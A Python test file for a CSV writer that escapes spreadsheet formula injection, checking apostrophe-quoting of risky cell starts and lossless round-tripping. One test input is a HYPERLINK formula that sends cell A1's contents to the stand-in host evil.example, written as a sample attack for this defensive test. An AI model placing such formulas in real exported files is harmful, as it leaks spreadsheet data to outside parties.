"""Every CSV Venster writes is safe to open in a spreadsheet and reads back unchanged."""

import csv
import io
from decimal import Decimal

from hypothesis import given
from hypothesis import strategies as st

from operations.csv_cells import FORMULA_STARTS, SafeWriter, escape_cell, unescape_cell


def written(row) -> str:
    out = io.StringIO()
    SafeWriter(out).writerow(row)
    return out.getvalue()


def test_formula_starts_are_quoted_with_an_apostrophe():
    row = ['=HYPERLINK("https://evil.example/?"&A1,"Markt")', "+31 71 000", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1", "'=1", "Markt", ""]
    cells = next(csv.reader(io.StringIO(written(row), newline="")))
    assert cells == ["'" + row[0], "'+31 71 000", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", "''=1",
                     "Markt", ""]


def test_numbers_stay_numbers_and_none_is_empty():
    assert written([-4.5, -3, Decimal("-1.25"), None, True]) == "-4.5,-3,-1.25,,True\r\n"


@given(st.text())
def test_an_escaped_text_never_starts_a_formula_and_reads_back_as_it_was(text):
    escaped = escape_cell(text)
    assert not escaped.startswith(FORMULA_STARTS)
    assert unescape_cell(escaped) == text


def test_a_hand_written_apostrophe_before_ordinary_text_is_kept():
    assert unescape_cell("'s-Gravenhage") == "'s-Gravenhage"
